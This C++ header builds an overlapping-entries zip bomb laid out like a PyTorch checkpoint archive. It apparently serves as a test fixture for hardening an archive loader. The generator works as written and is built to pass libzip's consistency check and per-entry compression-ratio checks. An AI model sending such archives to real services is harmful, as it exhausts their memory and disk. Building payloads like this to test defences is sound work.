#pragma once
// An overlapping-entries zip bomb after David Fifield, "A better zip bomb" (WOOT 2019): k entries
// whose deflate data all end in one shared kernel. Entry i's data starts with a non-final stored
// block that quotes the local header of entry i+1, whose data in turn quotes i+2, ..., down to
// the kernel, so every entry has a genuine local header (libzip's ZIP_CHECKCONS accepts it) and
// passes a per-entry ratio check, while all k together inflate to k times the kernel.
// The archive holds "archive/data.pkl" (stored, `pickle`) and "archive/data/<i>", i < k.
#include <zlib.h>

#include <cstdint>
#include <string>
#include <vector>

namespace overlapping_zip {

inline void put16(std::string& s, uint32_t v) {
    for (int i = 0; i < 2; ++i) s += static_cast<char>((v >> (8 * i)) & 0xFF);
}
inline void put32(std::string& s, uint32_t v) {
    for (int i = 0; i < 4; ++i) s += static_cast<char>((v >> (8 * i)) & 0xFF);
}

struct Entry {
    std::string name;
    uint16_t method;
    uint32_t crc, compressed, size, offset;
};

inline std::string localHeader(const Entry& e) {
    std::string h;
    put32(h, 0x04034b50);
    put16(h, 20);
    put16(h, 0);
    put16(h, e.method);
    put32(h, 0);  // time, date
    put32(h, e.crc);
    put32(h, e.compressed);
    put32(h, e.size);
    put16(h, static_cast<uint32_t>(e.name.size()));
    put16(h, 0);
    return h + e.name;
}

inline std::string centralHeader(const Entry& e) {
    std::string h;
    put32(h, 0x02014b50);
    put16(h, 20);
    put16(h, 20);
    put16(h, 0);
    put16(h, e.method);
    put32(h, 0);
    put32(h, e.crc);
    put32(h, e.compressed);
    put32(h, e.size);
    put16(h, static_cast<uint32_t>(e.name.size()));
    for (int i = 0; i < 4; ++i) put16(h, 0);  // extra, comment, disk, internal attributes
    put32(h, 0);                              // external attributes
    put32(h, e.offset);
    return h + e.name;
}

// Raw deflate of `zeros` zero bytes at level 9 (about 1030:1).
inline std::string deflateZeros(uint64_t zeros) {
    z_stream z{};
    deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
    const std::vector<unsigned char> chunk(1 << 20, 0);
    std::vector<unsigned char> out(1 << 16);
    std::string kernel;
    uint64_t left = zeros;
    int flush = Z_NO_FLUSH;
    do {
        const uInt n = static_cast<uInt>(std::min<uint64_t>(left, chunk.size()));
        left -= n;
        flush = left == 0 ? Z_FINISH : Z_NO_FLUSH;
        z.next_in = const_cast<unsigned char*>(chunk.data());
        z.avail_in = n;
        do {
            z.next_out = out.data();
            z.avail_out = static_cast<uInt>(out.size());
            deflate(&z, flush);
            kernel.append(reinterpret_cast<char*>(out.data()), out.size() - z.avail_out);
        } while (z.avail_out == 0);
    } while (flush != Z_FINISH);
    deflateEnd(&z);
    return kernel;
}

inline uint32_t crcOfZeros(uint64_t zeros) {
    const std::vector<unsigned char> chunk(1 << 20, 0);
    uLong crc = crc32(0, nullptr, 0);
    for (uint64_t left = zeros; left > 0;) {
        const uInt n = static_cast<uInt>(std::min<uint64_t>(left, chunk.size()));
        crc = crc32(crc, chunk.data(), n);
        left -= n;
    }
    return static_cast<uint32_t>(crc);
}

inline std::string build(const std::string& pickle, int k, uint64_t zeros) {
    const std::string kernel = deflateZeros(zeros);
    const uint32_t kernelCrc = crcOfZeros(zeros);
    // Backwards: entry i's size and CRC cover the local headers of i+1.. that it quotes.
    std::vector<Entry> e(static_cast<size_t>(k));
    std::vector<std::string> lh(static_cast<size_t>(k));
    std::string quoted;  // lh[i+1] + ... + lh[k-1]
    uint64_t compressed = kernel.size();
    for (int i = k - 1; i >= 0; --i) {
        Entry& x = e[static_cast<size_t>(i)];
        x.name = "archive/data/" + std::to_string(i);
        x.method = 8;
        const uLong prefixCrc =
            crc32(0, reinterpret_cast<const Bytef*>(quoted.data()), static_cast<uInt>(quoted.size()));
        x.crc = static_cast<uint32_t>(crc32_combine(prefixCrc, kernelCrc, static_cast<z_off_t>(zeros)));
        x.compressed = static_cast<uint32_t>(compressed);
        x.size = static_cast<uint32_t>(quoted.size() + zeros);
        lh[static_cast<size_t>(i)] = localHeader(x);
        quoted = lh[static_cast<size_t>(i)] + quoted;
        compressed += 5 + lh[static_cast<size_t>(i)].size();
    }
    std::string file;
    Entry pkl{"archive/data.pkl",
              0,
              static_cast<uint32_t>(
                  crc32(0, reinterpret_cast<const Bytef*>(pickle.data()), static_cast<uInt>(pickle.size()))),
              static_cast<uint32_t>(pickle.size()),
              static_cast<uint32_t>(pickle.size()),
              0};
    file += localHeader(pkl) + pickle;
    for (int i = 0; i < k; ++i) {
        e[static_cast<size_t>(i)].offset = static_cast<uint32_t>(file.size());
        file += lh[static_cast<size_t>(i)];
        if (i + 1 < k) {  // a non-final stored block quoting the next local header
            const uint32_t len = static_cast<uint32_t>(lh[static_cast<size_t>(i) + 1].size());
            file += '\0';
            put16(file, len);
            put16(file, ~len & 0xFFFF);
        }
    }
    file += kernel;
    const uint32_t cdOffset = static_cast<uint32_t>(file.size());
    std::string cd = centralHeader(pkl);
    for (const Entry& x : e) cd += centralHeader(x);
    file += cd;
    put32(file, 0x06054b50);
    put16(file, 0);
    put16(file, 0);
    put16(file, static_cast<uint32_t>(k + 1));
    put16(file, static_cast<uint32_t>(k + 1));
    put32(file, static_cast<uint32_t>(cd.size()));
    put32(file, cdOffset);
    put16(file, 0);
    return file;
}

}  // namespace overlapping_zip
